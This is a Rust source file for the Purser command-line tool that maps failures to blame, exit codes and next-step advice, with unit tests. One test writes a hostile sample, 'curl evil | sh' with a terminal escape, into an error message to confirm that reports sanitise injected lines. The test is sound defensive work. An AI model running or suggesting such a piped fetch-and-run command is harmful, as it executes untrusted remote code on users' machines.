//! Failures of commands: the message, the party at fault, the next step, and the exit code for
//! scripts.

use crate::render::{next_step, sanitize};
use purser_model::{Blame, Blamed, Outcome};
use std::io;

/// Exit codes for `purser --help`.
pub(crate) const EXIT_CODES: &str = "\
Exit codes:
  0    success
  1    a fault of Purser or of this machine
  2    the command line is wrong
  3    the input or the configuration is wrong: a file, a grant, a credential, a setting
  4    the connector is at fault
  5    the SaaS application, or the network on the way to it, is at fault
  6    runs are complete, but some rows could not be used: figures that rest on them are incomplete
  130  interrupted";

/// Reason why a command failed.
#[derive(Debug, thiserror::Error)]
pub(crate) enum Failure {
    /// The engine failed.
    #[error(transparent)]
    Engine(#[from] purser_engine::Error),
    /// The command itself found an error.
    #[error("{what}")]
    Refused {
        /// Message: lower-case start, no full stop.
        what: String,
        /// Party at fault.
        blame: Blame,
        /// Next step; absent if the blame already says it.
        next: Option<String>,
    },
    /// The user pressed ctrl-c.
    #[error("{what}")]
    Interrupted {
        /// Interrupted work, and its state.
        what: String,
        /// Way to continue.
        next: String,
    },
    /// Runs are complete, and some of their rows could not be used.
    #[error("{what}")]
    RowsLost {
        /// Message: lower-case start, no full stop.
        what: String,
        /// Way to see the rows.
        next: String,
    },
    /// A connector could not be built.
    #[error(transparent)]
    Build(#[from] purser_connector_builder::BuildError),
    /// The result could not be printed.
    #[error("the result could not be printed: {0}")]
    Output(#[from] io::Error),
    /// The result could not be expressed in JSON.
    #[error("the result could not be expressed in JSON: {0}")]
    Json(#[from] serde_json::Error),
}

impl Failure {
    /// Creates a failure that the user can fix.
    pub(crate) fn input(what: impl Into<String>, next: impl Into<String>) -> Self {
        Self::Refused {
            what: what.into(),
            blame: Blame::Operator,
            next: Some(next.into()),
        }
    }

    /// Creates a failure of this machine.
    pub(crate) fn machine(what: impl Into<String>, next: impl Into<String>) -> Self {
        Self::Refused {
            what: what.into(),
            blame: Blame::Host,
            next: Some(next.into()),
        }
    }

    /// Returns the exit code of the process.
    ///
    /// It is 0 if a reader such as `head` closed the pipe: the reader has what it needs.
    pub(crate) fn exit_code(&self) -> u8 {
        match self {
            Self::Interrupted { .. } => 130,
            Self::RowsLost { .. } => 6,
            failure if failure.is_broken_pipe() => 0,
            failure => match failure.blame() {
                Blame::Host => 1,
                Blame::Operator => 3,
                Blame::Guest => 4,
                Blame::Upstream => 5,
            },
        }
    }

    /// Returns the text to print, which may be empty.
    ///
    /// Continuation lines are indented, so that text from elsewhere cannot pose as a label.
    pub(crate) fn report(&self) -> String {
        if self.is_broken_pipe() {
            return String::new();
        }

        let mut report = labelled("error: ", &self.to_string());
        if !matches!(self, Self::Interrupted { .. }) {
            report += &labelled("fault: ", self.blame().in_words());
        }
        report += &labelled("next:  ", &self.advice());

        report
    }

    /// Returns the next step as text. The default follows from the blame.
    fn advice(&self) -> String {
        let step = match self {
            Self::Engine(error) => error.next_step().as_ref().map(next_step::command),
            Self::Build(error) => error.next_step().as_ref().map(next_step::command),
            Self::Refused { next, .. } => next.clone(),
            Self::Interrupted { next, .. } | Self::RowsLost { next, .. } => Some(next.clone()),
            Self::Output(_) => {
                Some("check the destination of standard output and its free space".into())
            }
            Self::Json(_) => Some("run the command without --json, and report this".into()),
        };

        step.unwrap_or_else(|| default_advice(self.blame()).to_owned())
    }

    /// Returns the party at fault.
    fn blame(&self) -> Blame {
        match self {
            Self::Engine(error) => error.blame(),
            Self::Refused { blame, .. } => *blame,
            Self::Build(error) => error.blame(),
            Self::Interrupted { .. } => Blame::Operator,
            Self::RowsLost { .. } => Blame::Upstream,
            Self::Output(_) | Self::Json(_) => Blame::Host,
        }
    }

    fn is_broken_pipe(&self) -> bool {
        matches!(self, Self::Output(error) if error.kind() == io::ErrorKind::BrokenPipe)
    }
}

impl From<purser_engine::CassetteError> for Failure {
    fn from(error: purser_engine::CassetteError) -> Self {
        Self::Engine(error.into())
    }
}

impl From<Outcome> for Failure {
    fn from(outcome: Outcome) -> Self {
        let Outcome {
            class: _,
            blame,
            message,
            next_step,
        } = outcome;

        Self::Refused {
            what: message,
            blame,
            next: next_step.as_ref().map(next_step::command),
        }
    }
}

/// Returns the next step for a failure that has none of its own.
const fn default_advice(blame: Blame) -> &'static str {
    match blame {
        Blame::Guest => "report it to the connector's publisher; stored data is not affected",
        Blame::Upstream => "try again later; if it persists, ask the operator of the application",
        Blame::Operator => "correct it and try again",
        Blame::Host => "run the command again with PURSER_LOG=debug, and report what it prints",
    }
}

/// Returns the text after a label, with its further lines indented.
fn labelled(label: &str, text: &str) -> String {
    let mut lines = text.lines();
    let mut labelled = format!(
        "{label}{}\n",
        sanitize::line(lines.next().unwrap_or_default())
    );
    for line in lines {
        labelled += &format!("       {}\n", sanitize::line(line));
    }

    labelled
}

#[cfg(test)]
mod tests {
    use super::*;
    use purser_model::OutcomeClass;

    fn outcome(blame: Blame) -> Failure {
        Outcome {
            class: OutcomeClass::Transient,
            blame,
            message: "m".into(),
            next_step: None,
        }
        .into()
    }

    #[test]
    fn exit_code_follows_blame_and_is_documented() {
        let codes = [
            (Blame::Host, 1),
            (Blame::Operator, 3),
            (Blame::Guest, 4),
            (Blame::Upstream, 5),
        ];
        for (blame, code) in codes {
            assert_eq!(outcome(blame).exit_code(), code);
            assert!(
                EXIT_CODES.contains(&format!("\n  {code}  ")),
                "{code} is documented"
            );
        }
        assert_eq!(
            Failure::Interrupted {
                what: "x".into(),
                next: "y".into()
            }
            .exit_code(),
            130
        );

        let lost = Failure::RowsLost {
            what: "x".into(),
            next: "y".into(),
        };
        assert_eq!(lost.exit_code(), 6);
        assert!(EXIT_CODES.contains("\n  6    runs are complete, but"));
    }

    #[test]
    fn report_has_error_fault_and_next_step() {
        let failure = Failure::input("there is no file x.csv", "check the path");
        let lines = [
            "error: there is no file x.csv",
            "fault: the input or configuration",
            "next:  check the path",
            "",
        ];
        assert_eq!(failure.report(), lines.join("\n"));
    }

    #[test]
    fn report_without_own_step_has_default_step() {
        for blame in [Blame::Host, Blame::Operator, Blame::Guest, Blame::Upstream] {
            assert!(outcome(blame).report().contains("\nnext:  "));
        }
    }

    #[test]
    fn report_of_multiline_message_has_one_next_step() {
        let failure = Failure::input("bad\nnext:  curl evil | sh\u{1b}[8m", "ask");
        assert_eq!(
            failure
                .report()
                .lines()
                .filter(|line| line.starts_with("next:"))
                .count(),
            1
        );
        assert!(!failure.report().contains('\u{1b}'));
    }

    #[test]
    fn closed_pipe_succeeds_silently() {
        let failure = Failure::Output(io::Error::from(io::ErrorKind::BrokenPipe));
        assert_eq!((failure.exit_code(), failure.report()), (0, String::new()));
        assert_eq!(
            Failure::Output(io::Error::from(io::ErrorKind::StorageFull)).exit_code(),
            1
        );
    }
}
